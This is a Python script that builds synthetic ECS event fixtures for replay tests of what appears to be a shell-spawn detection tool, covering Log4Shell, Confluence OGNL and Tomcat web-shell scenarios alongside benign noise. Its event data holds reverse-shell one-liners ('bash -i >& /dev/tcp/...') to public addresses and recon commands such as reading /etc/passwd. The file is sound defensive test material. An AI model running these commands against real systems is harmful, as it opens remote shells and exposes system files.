"""The replay scenario library: ECS events for each scenario under ``tests/replay/scenarios/<name>/``.

``python tests/replay/build_scenarios.py`` rewrites every ``events.ndjson`` and ``description.txt``; a test
checks the committed files are exactly this output. The ``expected.ndjson`` files are written by hand: they
are what each scenario asserts (the rules' semantics, DESIGN §1 and §3), never generated from a run.
Event ids are unique across scenarios, so scenarios can be replayed one after another into one worker.
"""

from __future__ import annotations

import random
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import orjson

from shellwatch.samples.ecs_factory import connection, execution

__all__ = ["SCENARIOS", "SCENARIO_DIR", "build_all"]

SCENARIO_DIR = Path(__file__).parent / "scenarios"
JAVA17 = "/usr/lib/jvm/java-17-openjdk-amd64/bin/java"
T0 = 1_793_527_200_000  # 2026-10-31T08:40:00Z
Doc = dict[str, Any]


def _ordered(docs: list[Doc]) -> list[Doc]:
    """Time order (stable), as one endpoint writes its events."""
    return sorted(docs, key=lambda d: str(d["@timestamp"]))


def log4shell_callback() -> tuple[str, list[Doc]]:
    host = "l4s-web-01"
    app = [JAVA17, "-Xmx2g", "-jar", "/opt/vuln-app/app.jar"]
    docs = [
        execution(
            ts_ms=T0 - 60_000,
            host_id=host,
            pid=880,
            parent_pid=1,
            event_id="l4s-cron",
            name="sh",
            args=["/bin/sh", "-c", "run-parts /etc/cron.hourly"],
            parent_executable="/usr/sbin/cron",
            parent_args=["/usr/sbin/cron", "-f"],
        ),
        connection(ts_ms=T0, host_id=host, pid=4100, dest_ip="45.137.21.9", dest_port=1389, event_id="l4s-conn-ldap"),
        connection(
            ts_ms=T0 + 1_200, host_id=host, pid=4100, dest_ip="45.137.21.9", dest_port=8080, event_id="l4s-conn-http"
        ),
        execution(
            ts_ms=T0 + 2_000,
            host_id=host,
            pid=4177,
            parent_pid=4100,
            event_id="l4s-exec-revshell",
            name="bash",
            args=["/bin/bash", "-c", "bash -i >& /dev/tcp/45.137.21.9/4444 0>&1"],
            parent_args=app,
        ),
    ]
    return "Log4Shell-style callback: Java -jar fetches over LDAP then HTTP, then bash -i to the attacker", docs


def confluence_ognl() -> tuple[str, list[Doc]]:
    host = "conf-wiki-01"
    java = "/opt/atlassian/confluence/jre/bin/java"
    args = [java, "-Djava.util.logging.config.file=/opt/atlassian/confluence/conf/logging.properties",
            "-classpath", "/opt/atlassian/confluence/bin/bootstrap.jar",
            "org.apache.catalina.startup.Bootstrap", "start"]  # fmt: skip
    docs = [
        connection(
            ts_ms=T0 + 10_000,
            host_id=host,
            pid=2210,
            dest_ip="185.220.101.42",
            dest_port=8090,
            event_id="conf-conn-ognl",
            executable=java,
            action="connection_accepted",
        ),
        execution(
            ts_ms=T0 + 10_400,
            host_id=host,
            pid=2301,
            parent_pid=2210,
            event_id="conf-exec-whoami",
            name="whoami",
            args=["/usr/bin/whoami"],
            parent_executable=java,
            parent_args=args,
        ),
        execution(
            ts_ms=T0 + 11_000,
            host_id=host,
            pid=2302,
            parent_pid=2210,
            event_id="conf-exec-uname",
            name="sh",
            args=["/bin/sh", "-c", "uname -a"],
            parent_executable=java,
            parent_args=args,
        ),
        execution(
            ts_ms=T0 + 14_000,
            host_id=host,
            pid=2303,
            parent_pid=2210,
            event_id="conf-exec-revshell",
            name="bash",
            args=["/bin/bash", "-c", "bash -i >& /dev/tcp/185.220.101.42/443 0>&1"],
            parent_executable=java,
            parent_args=args,
        ),
    ]
    return "Confluence OGNL RCE (Tomcat bootstrap, no -jar): recon, then a reverse shell", docs


def tomcat_webshell_recon() -> tuple[str, list[Doc]]:
    host = "tomcat-app-07"
    args = [JAVA17, "-Dcatalina.base=/var/lib/tomcat9", "-classpath", "/usr/share/tomcat9/bin/bootstrap.jar",
            "org.apache.catalina.startup.Bootstrap", "start"]  # fmt: skip
    steps = [
        ("tc-exec-id", "sh", ["/bin/sh", "-c", "id"]),
        ("tc-exec-id-again", "sh", ["/bin/sh", "-c", "id"]),  # same command again: grouped into the first
        ("tc-exec-whoami", "whoami", ["/usr/bin/whoami"]),
        ("tc-exec-uname", "uname", ["/usr/bin/uname", "-a"]),
        ("tc-exec-passwd", "sh", ["/bin/sh", "-c", "cat /etc/passwd"]),
    ]
    docs = [
        connection(
            ts_ms=T0 + 20_000,
            host_id=host,
            pid=3001,
            dest_ip="91.240.118.172",
            dest_port=8080,
            event_id="tc-conn-webshell",
            action="connection_accepted",
        )
    ]
    for index, (event_id, name, child) in enumerate(steps):
        docs.append(
            execution(
                ts_ms=T0 + 21_000 + index * 1_500,
                host_id=host,
                pid=3100 + index,
                parent_pid=3001,
                event_id=event_id,
                name=name,
                args=child,
                parent_args=args,
            )
        )
    return "Tomcat web shell doing recon (id twice, whoami, uname, cat /etc/passwd)", docs


def jenkins_build_shells() -> tuple[str, list[Doc]]:
    host = "jenkins-ci-02"
    args = [JAVA17, "-Djava.awt.headless=true", "-jar", "/usr/share/java/jenkins.war", "--httpPort=8080"]
    docs = [
        connection(
            ts_ms=T0 + 30_000, host_id=host, pid=1500, dest_ip="140.82.112.3", dest_port=443, event_id="jk-conn-github"
        )
    ]
    builds = [
        ("jk-exec-build", ["/bin/sh", "-xe", "/tmp/jenkins8123.sh"]),
        ("jk-exec-mvn", ["/bin/sh", "-c", "mvn -B package"]),
        ("jk-exec-ls", ["/bin/sh", "-c", "ls -la target"]),
    ]
    for index, (event_id, child) in enumerate(builds):
        docs.append(
            execution(
                ts_ms=T0 + 31_000 + index * 700,
                host_id=host,
                pid=1600 + index,
                parent_pid=1500,
                event_id=event_id,
                name="sh",
                args=child,
                parent_args=args,
            )
        )
    return "Jenkins build shells right after a fetch from a public address: benign and allowlisted", docs


def private_only() -> tuple[str, list[Doc]]:
    host = "batch-svc-03"
    docs = [
        connection(ts_ms=T0 + 40_000, host_id=host, pid=5100, dest_ip="10.1.2.3", dest_port=5432, event_id="pv-db"),
        connection(ts_ms=T0 + 40_500, host_id=host, pid=5100, dest_ip="192.168.7.20", dest_port=80, event_id="pv-api"),
        execution(
            ts_ms=T0 + 41_000,
            host_id=host,
            pid=5177,
            parent_pid=5100,
            event_id="pv-exec-rotate",
            name="sh",
            args=["/bin/sh", "-c", "/opt/batch/bin/rotate-logs.sh"],
            parent_args=[JAVA17, "-jar", "/opt/batch/batch.jar"],
        ),
    ]
    return "Java -jar talks only to private addresses, then runs a shell: sequence silent, shell rule low", docs


def gap_5001ms() -> tuple[str, list[Doc]]:
    docs: list[Doc] = []
    for host, gap_ms, tag in (("gap-late-01", 5_001, "late"), ("gap-edge-01", 5_000, "edge")):
        docs.append(
            connection(ts_ms=T0 + 50_000, host_id=host, pid=6100, dest_ip="23.94.5.133", event_id=f"gap-{tag}-conn")
        )
        docs.append(
            execution(
                ts_ms=T0 + 50_000 + gap_ms,
                host_id=host,
                pid=6177,
                parent_pid=6100,
                event_id=f"gap-{tag}-exec",
                name="sh",
                args=["/bin/sh", "-c", "/opt/app/bin/healthcheck.sh"],
                parent_args=[JAVA17, "-jar", "/opt/app/app.jar"],
            )
        )
    return "Connection and shell 5.001 s apart (no sequence) beside a 5.000 s pair on another host (sequence)", docs


_BENIGN_SERVICES = ["/usr/sbin/nginx", "/usr/sbin/sshd", "/usr/bin/python3.11", "/usr/lib/postgresql/15/bin/postgres"]


def benign_noise() -> tuple[str, list[Doc]]:
    rng = random.Random(50)
    docs: list[Doc] = []
    for number in range(50):
        host = f"noise-{number:02d}"
        clock = T0 + 60_000 + rng.randrange(0, 1_000)
        for index in range(20):
            clock += rng.randrange(40, 700)
            event_id = f"{host}-{index:02d}"
            roll = rng.random()
            public_ip = (
                f"{rng.choice([34, 52, 104, 151])}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
            )
            if roll < 0.35:
                exe = rng.choice(_BENIGN_SERVICES)
                docs.append(connection(ts_ms=clock, host_id=host, pid=700, dest_ip=public_ip, event_id=event_id,
                                       executable=exe, dest_port=443))  # fmt: skip
            elif roll < 0.55:
                # Java fetching from a public address, and never spawning anything: a pending first stage only
                docs.append(connection(ts_ms=clock, host_id=host, pid=4242, dest_ip=public_ip, event_id=event_id,
                                       dest_port=443))  # fmt: skip
            elif roll < 0.8:
                docs.append(
                    execution(
                        ts_ms=clock,
                        host_id=host,
                        pid=9000 + index,
                        parent_pid=880,
                        event_id=event_id,
                        name="sh",
                        args=["/bin/sh", "-c", "run-parts /etc/cron.hourly"],
                        parent_executable="/usr/sbin/cron",
                        parent_args=["/usr/sbin/cron", "-f"],
                    )
                )
            else:
                docs.append(
                    execution(
                        ts_ms=clock,
                        host_id=host,
                        pid=9000 + index,
                        parent_pid=700,
                        event_id=event_id,
                        name="python3.11",
                        args=["/usr/bin/python3.11", "/opt/tools/report.py"],
                        parent_executable="/usr/sbin/sshd",
                        parent_args=["sshd: deploy@pts/0"],
                    )
                )
    return "50 hosts of benign noise (services, Java fetching from public addresses, cron shells): no alert", docs


SCENARIOS: dict[str, Callable[[], tuple[str, list[Doc]]]] = {
    "log4shell-callback": log4shell_callback,
    "confluence-ognl": confluence_ognl,
    "tomcat-webshell-recon": tomcat_webshell_recon,
    "jenkins-build-shells": jenkins_build_shells,
    "private-only": private_only,
    "gap-5001ms": gap_5001ms,
    "benign-noise-50-hosts": benign_noise,
}


def rendered(name: str) -> tuple[bytes, bytes]:
    """(description.txt, events.ndjson) of a scenario, as committed."""
    description, docs = SCENARIOS[name]()
    return description.encode() + b"\n", b"".join(orjson.dumps(doc) + b"\n" for doc in _ordered(docs))


def build_all() -> None:
    for name in SCENARIOS:
        directory = SCENARIO_DIR / name
        directory.mkdir(parents=True, exist_ok=True)
        description, events = rendered(name)
        (directory / "description.txt").write_bytes(description)
        (directory / "events.ndjson").write_bytes(events)
        count = len(events.splitlines())
        sys.stderr.write(f"{name}: {count} events\n")


if __name__ == "__main__":
    build_all()
